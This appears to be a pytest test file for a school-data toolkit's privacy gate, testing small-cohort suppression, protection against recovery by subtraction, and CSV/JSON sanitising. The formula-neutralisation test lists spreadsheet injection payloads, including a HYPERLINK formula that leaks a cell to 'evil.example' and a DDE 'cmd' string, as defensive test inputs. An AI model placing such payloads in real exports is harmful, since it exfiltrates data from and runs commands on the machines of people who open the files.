"""The privacy gate and safe text: worked examples of every rule (toolkit.privacy)."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from toolkit.policy import default_policy
from toolkit.privacy import (
    IMPLICIT_COMPLEMENT,
    PARTITIONS,
    SUPPRESSED,
    Gate,
    clean_json,
    csv_text,
    find_control,
    neutralise_cell,
    strip_control,
    write_csv,
)

POLICY = default_policy()
MIN = POLICY.suppression.min_group_size  # 6 in the shipped policy
GATE = Gate.of(POLICY)
ALL = "All pupils"


# --------------------------------------------------------------------------- single figures


def test_a_figure_for_a_small_or_unknown_cohort_is_suppressed_never_zero():
    assert GATE.figure(87.6, 5) == SUPPRESSED
    assert GATE.figure(0.0, 5) == SUPPRESSED
    assert GATE.figure(87.6, None) == SUPPRESSED
    assert GATE.figure(87.6, MIN) == 87.6
    assert GATE.figure(float("nan"), 30) is None  # blank is "no data", not suppressed


def test_counts_in_disguise_are_suppressed_by_the_count_they_imply():
    # The issue's school: 5 pupils, 87.6% attendance, 40% persistent absence (2 pupils),
    # 2 suspensions (40 per 100), 1 permanent exclusion: every figure is suppressed.
    row = {"cohort": 5, "attendance_pct": 87.6, "persistent_absence_pct": 40.0, "severe_absence_pct": 0.0,
           "suspensions": 2, "permanent_exclusions": 1}
    gated = GATE.attendance(row)
    assert set(gated.values()) == {SUPPRESSED}
    # 200 pupils: attendance shown; 2% persistent absence is 4 pupils -> suppressed;
    # 5% is 10 pupils -> shown; 1 exclusion suppressed; 0 exclusions shown (names nobody).
    row = {"cohort": 200, "attendance_pct": 94.1, "persistent_absence_pct": 2.0, "severe_absence_pct": 5.0,
           "suspensions": 12, "permanent_exclusions": 1}
    gated = GATE.attendance(row)
    assert gated["attendance_pct"] == 94.1
    assert gated["persistent_absence_pct"] == SUPPRESSED
    assert gated["severe_absence_pct"] == 5.0
    assert gated["suspensions"] == 12 and gated["suspensions_per_100"] == 6.0
    assert gated["permanent_exclusions"] == SUPPRESSED
    assert GATE.attendance({**row, "permanent_exclusions": 0})["permanent_exclusions"] == 0
    # 3 suspensions among 200 pupils: the rate (1.5 per 100) would give the count back.
    assert GATE.attendance({**row, "suspensions": 3})["suspensions_per_100"] == SUPPRESSED
    # A rounded percentage that implies a fraction of a pupil still names someone.
    assert GATE.percent_of_pupils(0.4, 200) == SUPPRESSED
    # Withheld at source (a DfE code) is suppressed, whatever the number.
    assert GATE.attendance({**row, "suspensions_code": "x"})["suspensions"] == SUPPRESSED


# --------------------------------------------------------------------------- groups


def test_targets_example_from_the_issue_cannot_be_recovered_by_subtraction():
    # All pupils 41; Disadvantaged 3 (primary); Not disadvantaged must go too.
    cohorts = {ALL: 41, "Disadvantaged": 3, "Not disadvantaged": 38, "Boys": 20, "Girls": 21, "EAL": 12}
    hidden = GATE.groups(cohorts)
    assert hidden["Disadvantaged"] == f"fewer than {MIN} pupils"
    assert "Not disadvantaged" in hidden
    assert "Boys" not in hidden and "Girls" not in hidden and "EAL" not in hidden


def test_two_small_hidden_groups_whose_sum_is_small_hide_a_third():
    # SEN support 2 + EHC plan 2 hidden; All minus No SEN would reveal 4 pupils together.
    hidden = GATE.groups({ALL: 60, "SEN support": 2, "EHC plan": 2, "No SEN": 56})
    assert {"SEN support", "EHC plan", "No SEN"} <= set(hidden)


def test_a_missing_partner_row_still_counts_as_revealed_by_subtraction():
    # Boys shown with 27 of 30 and no Girls row: All minus Boys would reveal 3 girls.
    assert "Boys" in GATE.groups({ALL: 30, "Boys": 27})
    assert "Boys" not in GATE.groups({ALL: 30, "Boys": 20})


def _derivable(cohorts: dict[str, float], hidden: set[str]) -> list[str]:
    """What a reader can work out from All pupils and the groups shown: for each set of
    groups adding up to All pupils, the rest taken together (All minus what is shown)."""
    problems = []
    total = cohorts[ALL]
    for part in [*PARTITIONS, *((g,) for g in IMPLICIT_COMPLEMENT)]:
        present = [g for g in part if g in cohorts]
        shown = [g for g in present if g not in hidden]
        rest = total - sum(cohorts[g] for g in shown)
        unseen_present = [g for g in present if g in hidden]
        complete = len(part) > 1 and len(present) == len(part)
        if not shown:
            continue
        if complete and len(unseen_present) == 1:
            problems.append(f"{unseen_present[0]} = All minus {shown}")
        if 0 < rest < MIN:
            problems.append(f"{rest} pupils = All minus {shown}")
    return problems


@settings(max_examples=300, deadline=None)
@given(
    st.integers(min_value=1, max_value=60).flatmap(
        lambda n: st.tuples(
            st.just(n),
            st.integers(0, n), st.integers(0, n), st.integers(0, n), st.integers(0, n), st.integers(0, n),
            st.lists(st.booleans(), min_size=8, max_size=8),
            st.lists(st.booleans(), min_size=9, max_size=9),
        )
    )
)
def test_no_gated_group_is_small_or_derivable(args):
    n, d, b, s1, s2, eal, present, withheld = args
    s2 = min(s2, n - s1)
    sizes = {ALL: n, "Disadvantaged": d, "Not disadvantaged": n - d, "Boys": b, "Girls": n - b,
             "SEN support": s1, "EHC plan": s2, "No SEN": n - s1 - s2, "EAL": eal}
    names = list(sizes)
    cohorts = {g: float(v) for i, (g, v) in enumerate(sizes.items()) if g == ALL or present[i - 1]}
    codes = {g: "x" for i, g in enumerate(names) if g in cohorts and withheld[i] and i % 3 == 0}
    hidden = set(GATE.groups(cohorts, codes))
    if ALL in hidden:
        assert hidden == set(cohorts)
        return
    for g, v in cohorts.items():
        if v < MIN or g in codes:
            assert g in hidden, g
    assert _derivable(cohorts, hidden) == []


# --------------------------------------------------------------------------- text


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?leak="&E2,"x")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1", "\r=1"],
)
def test_formula_starting_text_is_neutralised(text):
    assert neutralise_cell(text).startswith("'")


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    assert neutralise_cell(-3.5) == -3.5 and neutralise_cell(7) == 7
    assert neutralise_cell("-1.5") == "-1.5" and neutralise_cell("+2") == "+2" and neutralise_cell("12%") == "12%"
    assert neutralise_cell("Oak Primary") == "Oak Primary"


def test_csv_writers_neutralise_every_text_cell(tmp_path):
    frame = pd.DataFrame({"name": ['=HYPERLINK("http://x","y")', "Oak"], "value": [1.5, -2.0], "when": [pd.NaT, pd.Timestamp("2026-01-02")]})
    for text in (csv_text(frame), write_csv(tmp_path / "a.csv", frame).read_text()):
        rows = list(csv.reader(io.StringIO(text)))
        assert rows[1][0] == '\'=HYPERLINK("http://x","y")' and rows[2][0] == "Oak"
        assert rows[1][1] == "1.5" and rows[2][1] == "-2.0" and rows[1][2] == ""


def test_control_characters_and_excel_escapes_are_found_and_stripped():
    text = "Oak\x00 Primary_x001B_\x07\nline two\t"
    assert find_control(text) == ["_x001B_ (U+001B)", "U+0000", "U+0007"]
    assert strip_control(text) == "Oak Primary\nline two\t"
    assert strip_control(text, keep_line_breaks=False) == "Oak Primary line two "
    assert json.dumps(clean_json({"a\x00": ["b\x1b", 1]})) == '{"a": ["b", 1]}'
    assert find_control("plain text") == []
